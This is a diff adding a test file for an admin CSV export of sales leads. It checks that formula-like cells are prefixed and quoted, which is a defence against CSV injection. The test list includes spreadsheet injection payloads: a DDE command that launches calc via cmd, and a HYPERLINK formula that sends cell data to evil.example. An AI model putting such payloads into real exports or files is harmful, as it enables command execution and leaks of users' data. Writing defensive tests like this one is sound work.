@@ -1,0 +1,94 @@
+import { describe, expect, it } from 'vitest'
+import { CSV_COLUMNS, toCsv, type publicLead } from './lead-http.server'
+
+type Item = ReturnType<typeof publicLead>
+
+const lead = (overrides: Partial<Item>): Item => ({
+  id: 1,
+  kind: 'form',
+  email: 'ada@example.com',
+  nameSurname: 'Ada Lovelace',
+  phone: '0212 555 00 00',
+  company: 'Analytical Engines',
+  message: 'Hello',
+  language: 'en',
+  pageUrl: 'https://site.test/en/contact',
+  createdAt: '2026-01-02T03:04:05.000Z',
+  deliveryStatus: 'stored',
+  ...overrides,
+})
+
+/** RFC 4180 the way a spreadsheet reads it: the cells' text and whether each was quoted. */
+function parseCsv(csv: string): Array<Array<{ text: string; quoted: boolean }>> {
+  const rows: Array<Array<{ text: string; quoted: boolean }>> = []
+  let row: Array<{ text: string; quoted: boolean }> = []
+  let index = csv.startsWith('\uFEFF') ? 1 : 0
+  while (index < csv.length) {
+    let text = ''
+    const quoted = csv[index] === '"'
+    if (quoted) {
+      index++
+      while (index < csv.length) {
+        if (csv[index] === '"' && csv[index + 1] !== '"') break
+        text += csv[index]
+        index += csv[index] === '"' ? 2 : 1
+      }
+      index++
+    } else {
+      while (index < csv.length && csv[index] !== ',' && csv[index] !== '\r') text += csv[index++]
+    }
+    row.push({ text, quoted })
+    if (csv[index] === ',') index++
+    else {
+      rows.push(row)
+      row = []
+      index += 2 // CR LF
+    }
+  }
+  return rows
+}
+
+describe('admin CSV export', () => {
+  // OWASP's list, and payloads that start like numbers (the old rule let + and - through
+  // when a digit, a space or a parenthesis followed).
+  const FORMULAS = [
+    `-2+3+cmd|' /C calc'!A0`,
+    `+1-HYPERLINK("https://evil.example/?leak="&A1,"Click")`,
+    '-1+1',
+    '+(1)',
+    '- 1',
+    '+90 (532) 123 45 67',
+    '=SUM(A1:A2)',
+    '@SUM(A1)',
+    '\t=1+1',
+    '\r=1+1',
+    '-',
+    '+',
+  ]
+
+  it('prefixes every cell starting with = + - @ tab or CR with a quote and quotes the cell, in every column', () => {
+    for (const formula of FORMULAS) {
+      for (const column of ['nameSurname', 'phone', 'company', 'message', 'pageUrl', 'email'] as const) {
+        const csv = toCsv([lead({ [column]: formula })])
+        const [header, row] = parseCsv(csv)
+        expect(header!.map((cell) => cell.text)).toEqual([...CSV_COLUMNS])
+        const cell = row![CSV_COLUMNS.indexOf(column)]!
+        expect(cell, `${column}: ${JSON.stringify(formula)}`).toEqual({ text: `'${formula}`, quoted: true })
+      }
+    }
+  })
+
+  it('leaves ordinary cells as they are and quotes only where RFC 4180 needs it', () => {
+    const csv = toCsv([lead({ message: 'Line one\nsays "hi", then -1', company: 'Minus-Plus GmbH', nameSurname: "O'Brien" })])
+    const [, row] = parseCsv(csv)
+    const byColumn = Object.fromEntries(CSV_COLUMNS.map((column, index) => [column, row![index]]))
+    expect(byColumn.message).toEqual({ text: 'Line one\nsays "hi", then -1', quoted: true })
+    expect(byColumn.company).toEqual({ text: 'Minus-Plus GmbH', quoted: false })
+    expect(byColumn.nameSurname).toEqual({ text: "O'Brien", quoted: false })
+    expect(byColumn.phone).toEqual({ text: '0212 555 00 00', quoted: false })
+    expect(byColumn.id).toEqual({ text: '1', quoted: false })
+    expect(byColumn.createdAt).toEqual({ text: '2026-01-02T03:04:05.000Z', quoted: false })
+    expect(csv.startsWith('\uFEFFid,kind,')).toBe(true)
+    expect(csv.endsWith('\r\n')).toBe(true)
+  })
+})
